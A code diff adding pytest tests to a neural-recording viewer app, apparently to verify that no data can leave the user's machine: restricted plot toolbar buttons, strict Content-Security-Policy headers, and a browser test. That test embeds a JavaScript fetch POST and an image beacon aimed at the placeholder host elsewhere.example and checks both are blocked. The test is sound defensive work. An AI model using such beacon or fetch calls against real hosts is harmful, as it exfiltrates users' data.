@@ -21,11 +21,12 @@ from n1codec.recordings import wav
 
 ALL = bool(os.environ.get("N1_REQUIRE_ALL"))
 CHANNELS, RATE = 12, 19531
+SIZE = {"width": 900, "height": 600}
 VIEWS = ("Signals", "Image", "Correlation", "Spectrum", "Compression", "Ratio and speed")
 
 if not ALL:
     pytest.importorskip("dash")
-from n1codec.viewer import app, layout, session, speed  # noqa: E402
+from n1codec.viewer import app, layout, session, speed, state  # noqa: E402
 from n1codec.viewer.callbacks import Sessions  # noqa: E402
 
 RESULTS = Path(__file__).parent.parent / "results"
@@ -38,6 +39,19 @@ def sessions(tmp_path_factory: pytest.TempPathFactory) -> Sessions:
     opened = session.open_paths([folder], cache)
     opened.prepare()
     return Sessions(opened, cache)
+
+
+@pytest.fixture
+def ask(sessions: Sessions) -> Any:
+    """What the page asks the server: a function from an output's name and the inputs to what changes on the page."""
+    asked = speed.client(app.create(sessions, RESULTS))
+
+    def call(wanted: str, values: dict[str, Any]) -> Any:
+        answer = asked(wanted, values)
+        assert answer.status_code in (200, 204), answer.status
+        return answer.get_json()["response"] if answer.status_code == 200 else {}
+
+    return call
 
 
 def data_url(data: bytes) -> str:
@@ -54,6 +68,49 @@ def test_the_page_needs_no_other_server(sessions: Sessions) -> None:
     assert "http://" not in text and "https://" not in text
     for line in text.split('src="')[1:]:
         assert client.get(line.partition('"')[0]).status_code == 200
+
+
+ALLOWED = {"zoom2d", "pan2d", "zoomIn2d", "zoomOut2d", "resetScale2d"}
+"""Buttons of plotly.js that change what is shown and nothing else."""
+
+
+def graphs(component: Any) -> Iterator[Any]:
+    """Yield every graph of a page."""
+    if type(component).__name__ == "Graph":
+        yield component
+    for inner in component._traverse() if hasattr(component, "_traverse") else ():
+        if type(inner).__name__ == "Graph":
+            yield inner
+
+
+def sends_nothing(config: dict[str, Any]) -> None:
+    assert {name for group in config["modeBarButtons"] for name in group} <= ALLOWED
+    assert "modeBarButtonsToAdd" not in config
+    for name in ("displaylogo", "showSendToCloud", "showEditInChartStudio", "showLink"):
+        assert config[name] is False, name
+    assert config["plotlyServerURL"] == ""
+
+
+def test_no_graph_can_send_its_plot_anywhere(sessions: Sessions, ask: Any) -> None:
+    found = list(graphs(app.create(sessions, RESULTS).layout))
+    assert {graph.id for graph in found} == {"main", "detail"}
+    for graph in found:
+        sends_nothing(graph.config)
+    for view in state.VIEWS:
+        sends_nothing(ask("main.config", {"state.data": f"?view={view}", "size.data": SIZE})["main"]["config"])
+
+
+def test_the_browser_is_told_to_refuse_other_servers(sessions: Sessions) -> None:
+    client = app.create(sessions, RESULTS).server.test_client()
+    for path in ("/", "/_dash-layout", "/assets/app.js", "/nothing-here"):
+        headers = client.get(path).headers
+        rules = dict(rule.split(" ", 1) for rule in headers["Content-Security-Policy"].split("; "))
+        assert rules["default-src"] == rules["connect-src"] == "'self'"
+        assert rules["form-action"] == rules["base-uri"] == rules["object-src"] == "'none'"
+        for sources in rules.values():
+            assert all(s in ("data:", "blob:") or s[0] + s[-1] == "''" for s in sources.split())  # no host
+        assert "unsafe" not in rules["script-src"]
+        assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
 
 
 def test_only_this_machine_is_served_unless_told_otherwise(sessions: Sessions) -> None:
@@ -183,6 +240,61 @@ class Page:
     def close(self) -> None:
         self.page.close()
         assert not self.errors
+
+
+@pytest.mark.slow
+def test_nothing_leaves_the_machine(browser: Any, address: str) -> None:
+    context = browser.new_context(viewport={"width": 1280, "height": 800})
+    elsewhere: list[str] = []
+
+    def watch(route: Any) -> None:
+        if route.request.url.startswith((address, "data:", "blob:")):
+            route.continue_()
+        else:
+            elsewhere.append(route.request.url)
+            route.abort()
+
+    context.route("**/*", watch)
+    page = context.new_page()
+    refused: list[str] = []
+    page.on("console", lambda message: refused.append(message.text) if message.type == "error" else None)
+    page.goto(address)
+    offered = set()
+    for key, view in enumerate(state.VIEWS, start=1):
+        page.wait_for_selector("#main .main-svg")
+        page.locator("h1").click()
+        page.keyboard.press(str(key))
+        page.wait_for_selector(f"#app.view-{view}")
+        page.wait_for_function(
+            "document.getElementById('progress').hidden && document.querySelector('#main .main-svg')"
+        )
+        page.wait_for_timeout(500)
+        page.locator("#main .js-plotly-plot").hover()
+        for button in page.locator("#main .modebar-btn").all():
+            offered.add(button.get_attribute("data-title"))
+            button.click(force=True)
+            page.wait_for_timeout(50)
+        assert page.locator(".plotly-cloud-dialog-box").count() == 0
+        assert page.locator("a[href^=http], .modebar-btn--logo, .js-plot-link-container").count() == 0
+    assert offered <= {"Zoom", "Pan", "Zoom in", "Zoom out", "Reset axes"} and len(offered) == 5
+    assert elsewhere == [] and len(context.pages) == 1
+    assert refused == []  # what the page itself needs is allowed
+    # Even a script on the page could send nothing: the browser refuses.
+    tried = page.evaluate(
+        """() => Promise.allSettled([
+             fetch("https://elsewhere.example/", {method: "POST", body: "samples", mode: "no-cors"}),
+             new Promise((good, bad) => {
+               const image = new Image();
+               image.onload = good;
+               image.onerror = bad;
+               image.src = "https://elsewhere.example/?samples";
+             }),
+           ]).then((all) => all.map((one) => one.status))"""
+    )
+    assert tried == ["rejected", "rejected"]
+    assert elsewhere == []
+    assert sum("Content Security Policy" in text for text in refused) >= 2
+    context.close()
 
 
 @pytest.mark.slow
